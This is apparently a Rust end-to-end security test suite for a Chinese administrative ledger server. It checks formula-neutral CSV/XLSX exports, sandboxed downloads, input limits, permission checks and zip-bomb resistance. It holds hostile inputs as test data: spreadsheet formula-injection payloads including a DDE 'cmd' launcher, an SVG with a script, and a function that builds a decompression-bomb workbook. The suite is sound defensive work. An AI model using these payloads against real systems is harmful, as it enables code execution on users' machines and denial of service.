//! The security review's categories as tests against the real server (`fazhi serve --demo`
//! on a fresh directory), so that a reviewer can run them and a regression shows:
//!
//! - **exports**: every download route of the pages and the API (found in the router's route
//!   registry, `fazhi_web::routes()`, and for the API's file types in the OpenAPI document,
//!   so a new one without its case here fails the test) is fetched after formula-like text
//!   was planted in the data it lists (a failed login name, a unit name, a ledger record); no
//!   cell of a CSV or XLSX file may be one a spreadsheet evaluates;
//! - **downloads**: every download answers with an allow-listed content type, `nosniff` and
//!   `Content-Security-Policy: sandbox`, whatever the uploader claimed (HTML, SVG, JS);
//! - **anonymous inputs**: a login name of 900,000 characters is refused without filling the
//!   audit log, and one address cannot try name after name;
//! - **bodies**: malformed JSON, invalid UTF-8 and wrong types on every API operation that
//!   takes a JSON body answer 4xx in Chinese, never 5xx; a path that is not UTF-8 too;
//! - **rights before bodies**: an import or upload by someone without the right is refused
//!   before its body is read;
//! - **forged workbooks**: an XLSX whose sheet inflates to 1.5 GB of spaces while its zip
//!   declares 5,000 bytes is refused, and the server's peak memory stays under 300 MB.

mod e2e_common;

use e2e_common::{demo_passwords, report_txt, tempdir, Auth, Body, Client, Multipart, Server};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::time::{Duration, Instant};

/// Text a spreadsheet would run if a cell began with it.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
];

struct Ctx {
    c: Client,
    admin: Auth,
    staff: Auth,
    staff_token: Auth,
    supervisor: Auth,
    /// The unit of the staff member (市科工局).
    unit: i64,
    /// A unit the staff member does not belong to.
    other_unit: i64,
    /// The root region.
    city: i64,
    /// The attachment (an SVG) of a ledger record of the staff's unit with formula-like text.
    attachment: i64,
    /// An upload of the staff's unit, published, whose uploader claimed `text/html`.
    upload: i64,
    year: i32,
}

fn setup(server: &Server) -> Ctx {
    let c = server.client();
    let lines = server.stdout.lock().unwrap().clone();
    let pw = demo_passwords(&lines, &["admin", "kegongju", "dudao"]);
    let admin = c.must_login("admin", &pw["admin"]);
    let staff = c.must_login("kegongju", &pw["kegongju"]);
    let supervisor = c.must_login("dudao", &pw["dudao"]);
    let staff_token = c.token(&staff, "e2e-security");
    let me = c.get_json("/api/v1/me", &staff);
    let unit = me["units"][0]["id"].as_i64().expect("the staff's unit");
    let units = c.get_json("/api/v1/units", &admin);
    let other_unit = units
        .as_array()
        .or_else(|| units["items"].as_array())
        .expect("units")
        .iter()
        .map(|u| u["id"].as_i64().unwrap())
        .find(|id| *id != unit)
        .expect("a second unit");
    let regions = c.get_json("/api/v1/regions", &admin);
    let city = regions
        .as_array()
        .or_else(|| regions["items"].as_array())
        .expect("regions")
        .iter()
        .find(|r| r["parent_id"].is_null())
        .expect("the root region")["id"]
        .as_i64()
        .unwrap();
    let year = 2025;

    // Formula-like text in every kind of data the exports list.
    for (i, f) in FORMULAS.iter().enumerate() {
        // A failed login: lands in the audit log and /audit.csv.
        let r = c.call(
            "POST",
            "/api/v1/auth/login",
            &Auth::Anon,
            &Body::Json(json!({"login": f, "password": "wrong"})),
        );
        assert!(matches!(r.status, 401 | 403 | 422 | 429), "{}", r.snippet());
        // A unit: lands in the organisation exports and the supervisor's list.
        let r = c.call(
            "POST",
            "/api/v1/units",
            &admin,
            &Body::Json(json!({"region_id": city, "code": format!("E2ESEC{i}"),
                "name": format!("{f}青川测试局{i}"), "short_name": f, "kind": "department"})),
        );
        assert_eq!(
            r.status,
            201,
            "unit with formula-like name: {}",
            r.snippet()
        );
    }
    let created = c.call(
        "POST",
        &format!("/api/v1/units/{unit}/ledger/study"),
        &staff_token,
        &Body::Json(json!({
            "year": year,
            "fields": {
                "date": format!("{year}-03-02"),
                "form": "党组会学法",
                "topic": FORMULAS[0],
                "laws": [FORMULAS[1], FORMULAS[3]],
                "attendees": 9,
                "leader_present": true,
                "hours": 1.5
            }
        })),
    );
    assert_eq!(created.status, 201, "{}", created.snippet());
    let record = created.json()["record"]["id"].as_i64().unwrap();
    let att = c.call(
        "POST",
        &format!("/api/v1/ledger/records/{record}/attachments?filename=sign.svg"),
        &staff_token,
        &Body::Raw {
            content_type: "image/svg+xml".into(),
            bytes: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
                .to_vec(),
        },
    );
    assert_eq!(att.status, 201, "{}", att.snippet());
    let attachment = att.json()["id"].as_i64().unwrap();

    let form = Multipart::new().text("year", "2024").file(
        "file",
        "年度报告.txt",
        "text/html",
        report_txt("青川市科学技术和工业信息化局", 2024, 7).into_bytes(),
    );
    let r = c.call(
        "POST",
        &format!("/api/v1/units/{unit}/uploads"),
        &staff_token,
        &Body::Multipart(form),
    );
    assert_eq!(r.status, 201, "{}", r.snippet());
    let upload = r.json()["upload"]["id"].as_i64().unwrap();
    let r = c.call(
        "POST",
        &format!("/api/v1/uploads/{upload}/publish"),
        &admin,
        &Body::None,
    );
    assert!(r.is_success(), "publish: {}", r.snippet());

    Ctx {
        c,
        admin,
        staff,
        staff_token,
        supervisor,
        unit,
        other_unit,
        city,
        attachment,
        upload,
        year,
    }
}

// ---------------------------------------------------------------------------------------
// Exports and downloads

/// What a download holds, for the formula check.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Holds {
    Csv,
    Xlsx,
    /// A file as uploaded (served back, never generated).
    File,
}

/// One download route with the request that exercises it.
struct Download {
    method: &'static str,
    /// The route as the route registry (and the OpenAPI document) writes it.
    route: &'static str,
    api: bool,
    holds: Holds,
    url: fn(&Ctx) -> String,
    who: fn(&Ctx) -> &Auth,
}

fn downloads() -> Vec<Download> {
    fn admin(x: &Ctx) -> &Auth {
        &x.admin
    }
    fn staff(x: &Ctx) -> &Auth {
        &x.staff
    }
    fn token(x: &Ctx) -> &Auth {
        &x.staff_token
    }
    fn supervisor(x: &Ctx) -> &Auth {
        &x.supervisor
    }
    vec![
        Download {
            method: "GET",
            route: "/audit.csv",
            api: false,
            holds: Holds::Csv,
            url: |_| "/audit.csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/regions/{id}/units.csv",
            api: false,
            holds: Holds::Csv,
            url: |x| format!("/regions/{}/units.csv", x.city),
            who: supervisor,
        },
        Download {
            method: "GET",
            route: "/admin/org/export.csv",
            api: false,
            holds: Holds::Csv,
            url: |_| "/admin/org/export.csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/admin/org/export.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |_| "/admin/org/export.xlsx".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/template.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |x| format!("/units/{}/ledger/study/template.xlsx", x.unit),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |x| format!("/units/{}/ledger/study/export.xlsx?year={}", x.unit, x.year),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export.csv",
            api: false,
            holds: Holds::Csv,
            url: |x| format!("/units/{}/ledger/study/export.csv?year={}", x.unit, x.year),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/ledger/attachments/{id}",
            api: false,
            holds: Holds::File,
            url: |x| format!("/ledger/attachments/{}", x.attachment),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/uploads/{id}/original",
            api: false,
            holds: Holds::File,
            url: |x| format!("/uploads/{}/original", x.upload),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/org/export",
            api: true,
            holds: Holds::Csv,
            url: |_| "/api/v1/org/export?format=csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/template",
            api: true,
            holds: Holds::Xlsx,
            url: |x| format!("/api/v1/units/{}/ledger/study/template", x.unit),
            who: token,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export",
            api: true,
            holds: Holds::Csv,
            url: |x| {
                format!(
                    "/api/v1/units/{}/ledger/study/export?year={}&format=csv",
                    x.unit, x.year
                )
            },
            who: token,
        },
        Download {
            method: "GET",
            route: "/uploads/{id}/original",
            api: true,
            holds: Holds::File,
            url: |x| format!("/api/v1/uploads/{}/original", x.upload),
            who: token,
        },
        Download {
            method: "GET",
            route: "/ledger/attachments/{aid}",
            api: true,
            holds: Holds::File,
            url: |x| format!("/api/v1/ledger/attachments/{}", x.attachment),
            who: token,
        },
    ]
}

/// Page routes that send a file, from the router's registry ([`fazhi_web::routes`]): by
/// their name (`.csv`, `.xlsx`, an original, an attachment).
fn page_download_routes() -> BTreeSet<(String, String)> {
    fazhi_web::routes()
        .into_iter()
        .filter(|r| r.surface == fazhi_web::Surface::Page)
        .map(|r| (r.method.to_string(), r.path))
        .filter(|(m, path)| {
            m == "GET"
                && (path.ends_with(".csv")
                    || path.ends_with(".xlsx")
                    || path.ends_with("/original")
                    || path.contains("/attachments/")
                    || path.contains("export")
                    || path.contains("template")
                    || path.contains("download"))
        })
        .collect()
}

/// API operations that answer something other than JSON (a file), from the document.
fn api_download_routes(doc: &Value) -> BTreeSet<(String, String)> {
    let mut out = BTreeSet::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        for m in ["get", "post", "put", "patch", "delete"] {
            let Some(op) = item.get(m) else { continue };
            let Some(ok) = op["responses"]["200"]["content"].as_object() else {
                continue;
            };
            if ok.keys().any(|k| !k.contains("json")) {
                out.insert((m.to_uppercase(), path.clone()));
            }
        }
    }
    out
}

/// The content types a download may carry (the server's allow-list, written out again here
/// so that a widened list in the code shows up).
fn allowed_type(ct: &str) -> bool {
    let essence = ct.split(';').next().unwrap_or("").trim();
    matches!(
        essence,
        "application/octet-stream"
            | "application/pdf"
            | "text/plain"
            | "text/csv"
            | "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            | "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
}

#[test]
fn every_export_is_formula_neutral_and_every_download_safely_typed() {
    let dir = tempdir("security");
    let server = Server::start(
        dir.path(),
        &["--demo", "--demo-units", "12", "--demo-years", "1"],
    );
    let x = setup(&server);
    let table = downloads();

    // Coverage: every download route has its case, and every case is a route.
    let doc = x.c.get_json("/api/v1/openapi.json", &Auth::Anon);
    let pages: BTreeSet<(String, String)> = table
        .iter()
        .filter(|d| !d.api)
        .map(|d| (d.method.to_string(), d.route.to_string()))
        .collect();
    let apis: BTreeSet<(String, String)> = table
        .iter()
        .filter(|d| d.api)
        .map(|d| (d.method.to_string(), d.route.to_string()))
        .collect();
    let page_routes = page_download_routes();
    let api_routes = api_download_routes(&doc);
    let registered: BTreeSet<(String, String)> = fazhi_web::routes()
        .into_iter()
        .filter(|r| r.surface == fazhi_web::Surface::Api)
        .map(|r| (r.method.to_string(), r.path))
        .collect();
    assert!(
        api_routes.is_subset(&registered),
        "the served document names API downloads that are not registered: {:?}",
        api_routes.difference(&registered).collect::<Vec<_>>()
    );
    assert_eq!(
        page_routes.difference(&pages).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "page download routes without a case in this test"
    );
    assert_eq!(
        pages.difference(&page_routes).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "cases for page routes that are no download route"
    );
    assert_eq!(
        api_routes.difference(&apis).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "API download operations without a case in this test"
    );
    assert_eq!(
        apis.difference(&api_routes).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "cases for API operations that are no download"
    );

    let mut failures = Vec::new();
    for d in &table {
        let url = (d.url)(&x);
        let r = x.c.get(&url, (d.who)(&x));
        if r.status != 200 {
            failures.push(format!("{url}: status {} {}", r.status, r.snippet()));
            continue;
        }
        let ct = r.header("content-type").unwrap_or("").to_string();
        if !allowed_type(&ct) {
            failures.push(format!("{url}: content type {ct:?}"));
        }
        if r.header("x-content-type-options") != Some("nosniff") {
            failures.push(format!("{url}: no nosniff"));
        }
        let csp = r.header("content-security-policy").unwrap_or("");
        if !csp.split(';').any(|p| p.trim() == "sandbox") {
            failures.push(format!("{url}: CSP without sandbox: {csp:?}"));
        }
        if !r
            .header("content-disposition")
            .is_some_and(|v| v.starts_with("attachment"))
        {
            failures.push(format!("{url}: not an attachment"));
        }
        let format = match d.holds {
            Holds::Csv => Some(fazhi_sheet::Format::Csv),
            Holds::Xlsx => Some(fazhi_sheet::Format::Xlsx),
            Holds::File => None,
        };
        if let Some(format) = format {
            let cells = fazhi_sheet::formula_cells(&r.body, format);
            if !cells.is_empty() {
                failures.push(format!("{url}: cells a spreadsheet evaluates: {cells:?}"));
            }
        }
        // The planted text is really in the lists that should hold it (so the check above
        // looked at it, not at an empty file).
        let expect_planted = matches!(
            d.route,
            "/audit.csv" | "/admin/org/export.csv" | "/org/export" | "/regions/{id}/units.csv"
        ) || (d.route.contains("export") && d.route.contains("ledger"));
        if expect_planted && d.holds == Holds::Csv && !r.text().contains("HYPERLINK") {
            failures.push(format!("{url}: the planted formula-like text is missing"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // The public reads a published report without learning who uploaded it.
    let page = x.c.get(&format!("/uploads/{}", x.upload), &Auth::Anon);
    assert_eq!(page.status, 200);
    assert!(
        !page.text().contains("kegongju"),
        "the public page names the uploader"
    );
    let own = x.c.get(&format!("/uploads/{}", x.upload), &x.staff);
    assert!(
        own.text().contains("kegongju"),
        "the unit sees its uploader"
    );

    // A script or an SVG is no report: refused, not "checked".
    for (name, ct) in [
        ("a.js", "application/javascript"),
        ("a.svg", "image/svg+xml"),
    ] {
        let form =
            Multipart::new()
                .text("year", "2024")
                .file("file", name, ct, b"alert(1)".to_vec());
        let r = x.c.call(
            "POST",
            &format!("/api/v1/units/{}/uploads", x.unit),
            &x.staff_token,
            &Body::Multipart(form),
        );
        assert_eq!(r.status, 422, "{name}: {}", r.snippet());
    }

    // Another unit's unpublished upload does not exist for this staff member (404, as a
    // record of another unit), whether asked on the page or the API.
    let form = Multipart::new().text("year", "2024").file(
        "file",
        "报告.txt",
        "text/plain",
        report_txt("某单位", 2024, 9).into_bytes(),
    );
    let r = x.c.call(
        "POST",
        &format!("/api/v1/units/{}/uploads", x.other_unit),
        &x.admin,
        &Body::Multipart(form),
    );
    assert_eq!(r.status, 201, "{}", r.snippet());
    let theirs = r.json()["upload"]["id"].as_i64().unwrap();
    for url in [
        format!("/api/v1/uploads/{theirs}"),
        format!("/api/v1/uploads/{theirs}/original"),
        format!("/uploads/{theirs}/original"),
    ] {
        let r = x.c.get(&url, &x.staff_token);
        assert_eq!(r.status, 404, "{url}: {}", r.snippet());
    }
}

// ---------------------------------------------------------------------------------------
// Anonymous inputs, bodies, rights

/// Whether a message reads as Chinese and carries no English library wording.
fn chinese(message: &str) -> bool {
    let english = [
        "expected",
        "invalid",
        "unknown",
        "Failed",
        "deserialize",
        "missing",
        "digit",
        "EOF",
    ];
    message
        .chars()
        .any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c))
        && !english.iter().any(|w| message.contains(w))
}

#[test]
fn anonymous_inputs_bodies_and_rights_are_bounded() {
    let dir = tempdir("security-input");
    let server = Server::start(
        dir.path(),
        &["--demo", "--demo-units", "6", "--demo-years", "1"],
    );
    let c = server.client();
    let lines = server.stdout.lock().unwrap().clone();
    let pw = demo_passwords(&lines, &["admin", "kegongju"]);
    let admin = c.must_login("admin", &pw["admin"]);
    let admin_token = c.token(&admin, "e2e-security");
    let staff = c.must_login("kegongju", &pw["kegongju"]);
    let staff_token = c.token(&staff, "e2e-security");
    let unit = c.get_json("/api/v1/me", &staff)["units"][0]["id"]
        .as_i64()
        .unwrap();

    // A login name of 900,000 characters: refused, and the audit entry stays small.
    let before = c.get_json("/api/v1/audit?limit=1", &admin)["items"][0]["id"]
        .as_i64()
        .unwrap_or(0);
    let long = "x".repeat(900_000);
    let r = c.call(
        "POST",
        "/api/v1/auth/login",
        &Auth::Anon,
        &Body::Json(json!({"login": long, "password": "whatever1"})),
    );
    assert!(
        (400..500).contains(&r.status),
        "long login name: {} {}",
        r.status,
        r.snippet()
    );
    let audit = c.get_json("/api/v1/audit?limit=20", &admin);
    for e in audit["items"].as_array().unwrap() {
        if e["id"].as_i64().unwrap_or(0) > before {
            let size = e.to_string().len();
            assert!(
                size < 4_000,
                "audit entry of {size} bytes after a long login name"
            );
        }
    }

    // One address cannot try name after name: a per-address throttle answers 429.
    let mut throttled = false;
    for i in 0..40 {
        let r = c.call(
            "POST",
            "/api/v1/auth/login",
            &Auth::Anon,
            &Body::Json(json!({"login": format!("nobody{i}"), "password": "wrong-password-1"})),
        );
        if r.status == 429 {
            assert!(r.header("retry-after").is_some(), "429 without Retry-After");
            throttled = true;
            break;
        }
    }
    assert!(
        throttled,
        "40 failed logins with new names from one address, no 429"
    );

    // Every API operation taking a JSON body: malformed JSON, invalid UTF-8 and wrong types
    // answer 4xx with a Chinese message, never 5xx.
    let doc = c.get_json("/api/v1/openapi.json", &Auth::Anon);
    let mut failures = Vec::new();
    let mut asked = 0;
    for (path, item) in doc["paths"].as_object().unwrap() {
        for m in ["post", "put", "patch"] {
            let Some(op) = item.get(m) else { continue };
            if op["requestBody"]["content"]
                .get("application/json")
                .is_none()
            {
                continue;
            }
            let concrete = path
                .replace("{id}", &unit.to_string())
                .replace("{kind}", "study")
                .replace("{rid}", "1")
                .replace("{aid}", "1");
            if concrete.contains("/auth/login") || concrete.contains("/me/password") {
                // Asked below without a token (they count as login attempts).
            }
            for (what, bytes) in [
                ("malformed", b"{\"a\": ".to_vec()),
                ("not UTF-8", b"{\"name\": \"\xff\xfe\"}".to_vec()),
                ("wrong types", b"[1, 2, 3]".to_vec()),
                (
                    "unknown field",
                    b"{\"is_superuser\": true, \"password\": \"x\"}".to_vec(),
                ),
            ] {
                asked += 1;
                let r = c.call(
                    &m.to_uppercase(),
                    &format!("/api/v1{concrete}"),
                    &admin_token,
                    &Body::Raw {
                        content_type: "application/json".into(),
                        bytes,
                    },
                );
                if !(400..500).contains(&r.status) {
                    failures.push(format!("{m} {path} ({what}): {} {}", r.status, r.snippet()));
                    continue;
                }
                if r.status == 429 {
                    continue;
                }
                let message = r.json()["message"].as_str().unwrap_or("").to_string();
                if !chinese(&message) {
                    failures.push(format!("{m} {path} ({what}): message {message:?}"));
                }
            }
        }
    }
    assert!(
        asked >= 40,
        "only {asked} requests: the document lost its bodies?"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // A path that is not UTF-8, under the API, the pages and the static files.
    for path in [
        "/static/x/%FF%FE",
        "/api/v1/units/%FF",
        "/units/%FF",
        "/api/v1/units/abc",
    ] {
        let r = c.get(path, &admin_token);
        assert!((400..500).contains(&r.status), "{path}: {}", r.status);
        assert!(
            r.text()
                .chars()
                .any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)),
            "{path}: not Chinese: {}",
            r.snippet()
        );
    }

    // Rights before bodies: staff may not import the organisation; the refusal comes at once,
    // before the (announced, never sent) body.
    let garbage = Multipart::new().file(
        "file",
        "机构.xlsx",
        "application/zip",
        b"PK\x03\x04junk".to_vec(),
    );
    let r = c.call(
        "POST",
        "/api/v1/org/import",
        &staff_token,
        &Body::Multipart(garbage),
    );
    assert_eq!(
        r.status,
        403,
        "staff importing the organisation: {}",
        r.snippet()
    );
    let other = c.get_json("/api/v1/units", &admin_token);
    let other = other
        .as_array()
        .or_else(|| other["items"].as_array())
        .unwrap()
        .iter()
        .map(|u| u["id"].as_i64().unwrap())
        .find(|id| *id != unit)
        .unwrap();
    for (path, ct) in [
        (
            "/api/v1/org/import".to_string(),
            "multipart/form-data; boundary=x",
        ),
        (
            format!("/api/v1/units/{other}/uploads"),
            "multipart/form-data; boundary=x",
        ),
        (
            format!("/api/v1/units/{other}/ledger/study/import"),
            "application/octet-stream",
        ),
        (
            format!("/api/v1/units/{unit}/ledger/nosuchkind/import"),
            "application/octet-stream",
        ),
        (
            "/api/v1/ledger/records/999999999/attachments?filename=a.pdf".to_string(),
            "application/pdf",
        ),
    ] {
        let status = announced_body_status(&c, &path, &staff_token, ct);
        assert!(
            matches!(status, Some(403 | 404 | 422)),
            "{path}: answered {status:?} instead of refusing before the body"
        );
    }
}

/// Sends the head of a POST announcing 5 MB of body, then only a few bytes, and waits at
/// most 15 s for the answer: a server that checks the right first answers at once; one that
/// reads the body first waits for bytes that never come (`None`).
fn announced_body_status(c: &Client, path: &str, auth: &Auth, ct: &str) -> Option<u16> {
    let Auth::Bearer(token) = auth else {
        panic!("a bearer token")
    };
    let mut s = std::net::TcpStream::connect(c.addr).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(15))).ok()?;
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\nContent-Type: {ct}\r\nContent-Length: 5000000\r\nConnection: close\r\n\r\nabcdef",
        c.addr
    );
    s.write_all(head.as_bytes()).ok()?;
    let mut buf = [0u8; 64];
    let mut got = Vec::new();
    let started = Instant::now();
    while got.len() < 12 && started.elapsed() < Duration::from_secs(15) {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(_) => break,
        }
    }
    let line = String::from_utf8_lossy(&got);
    line.split_whitespace().nth(1)?.parse().ok()
}

// ---------------------------------------------------------------------------------------
// Forged workbooks

/// Builds the forged workbook of the review: a real export whose sheet is replaced by
/// `spaces` bytes of spaces inside `<sheetData>` (deflated to a few MB), with the sizes the
/// zip declares for it patched to 5,000.
fn forged_xlsx(real: &[u8], spaces: u64) -> Vec<u8> {
    use std::io::Cursor;
    let mut src = zip::ZipArchive::new(Cursor::new(real)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(false);
    let mut sheet_name = String::new();
    for i in 0..src.len() {
        let mut f = src.by_index(i).unwrap();
        let name = f.name().to_string();
        out.start_file(name.as_str(), opts).unwrap();
        if name.starts_with("xl/worksheets/sheet") && sheet_name.is_empty() {
            sheet_name = name.clone();
            out.write_all(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>").unwrap();
            let chunk = vec![b' '; 1 << 20];
            let mut left = spaces;
            while left > 0 {
                let n = left.min(chunk.len() as u64) as usize;
                out.write_all(&chunk[..n]).unwrap();
                left -= n as u64;
            }
            out.write_all(b"</sheetData></worksheet>").unwrap();
        } else {
            std::io::copy(&mut f, &mut out).unwrap();
        }
    }
    let mut bytes = out.finish().unwrap().into_inner();
    // Patch the uncompressed size of the sheet in its local header and the central directory.
    let name = sheet_name.as_bytes();
    let mut i = 0;
    while i + 4 <= bytes.len() {
        let sig: [u8; 4] = bytes[i..i + 4].try_into().unwrap();
        if &sig == b"PK\x03\x04" && bytes.get(i + 30..i + 30 + name.len()) == Some(name) {
            bytes[i + 22..i + 26].copy_from_slice(&5000u32.to_le_bytes());
        }
        if &sig == b"PK\x01\x02" && bytes.get(i + 46..i + 46 + name.len()) == Some(name) {
            bytes[i + 24..i + 28].copy_from_slice(&5000u32.to_le_bytes());
        }
        i += 1;
    }
    bytes
}

#[test]
fn a_forged_workbook_cannot_take_the_servers_memory() {
    let dir = tempdir("security-zip");
    let server = Server::start(
        dir.path(),
        &["--demo", "--demo-units", "4", "--demo-years", "1"],
    );
    let c = server.client();
    let lines = server.stdout.lock().unwrap().clone();
    let pw = demo_passwords(&lines, &["admin", "kegongju"]);
    let admin = c.must_login("admin", &pw["admin"]);
    let admin_token = c.token(&admin, "e2e-zip");
    let staff = c.must_login("kegongju", &pw["kegongju"]);
    let staff_token = c.token(&staff, "e2e-zip");
    let unit = c.get_json("/api/v1/me", &staff)["units"][0]["id"]
        .as_i64()
        .unwrap();
    let template = c.get(
        &format!("/api/v1/units/{unit}/ledger/study/template"),
        &staff_token,
    );
    assert_eq!(template.status, 200);
    let org = c.get("/api/v1/org/export?format=xlsx", &admin_token);
    assert_eq!(org.status, 200);
    let before = server.vm_hwm_kb().expect("VmHWM");

    let forged = forged_xlsx(&template.body, 1_500_000_000);
    assert!(
        forged.len() < 20 * 1024 * 1024,
        "forged file of {} bytes",
        forged.len()
    );
    let r = c.call(
        "POST",
        &format!("/api/v1/units/{unit}/ledger/study/import?year=2025&filename=forged.xlsx"),
        &staff_token,
        &Body::Raw {
            content_type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
                .into(),
            bytes: forged,
        },
    );
    assert!(
        matches!(r.status, 413 | 422),
        "forged ledger workbook: {} {}",
        r.status,
        r.snippet()
    );
    let message = r.json()["message"].as_str().unwrap_or("").to_string();
    assert!(message.contains("上限"), "the limit is named: {message}");

    let forged = forged_xlsx(&org.body, 1_500_000_000);
    let form = Multipart::new().file(
        "file",
        "机构.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        forged,
    );
    let r = c.call(
        "POST",
        "/api/v1/org/import",
        &admin_token,
        &Body::Multipart(form),
    );
    assert!(
        matches!(r.status, 413 | 422),
        "forged organisation workbook: {} {}",
        r.status,
        r.snippet()
    );
    let after = server.vm_hwm_kb().expect("VmHWM");
    eprintln!("peak RSS: {before} kB before, {after} kB after the forged workbooks");
    assert!(
        after < 300 * 1024,
        "peak RSS {after} kB (before: {before} kB): over 300 MB"
    );
}
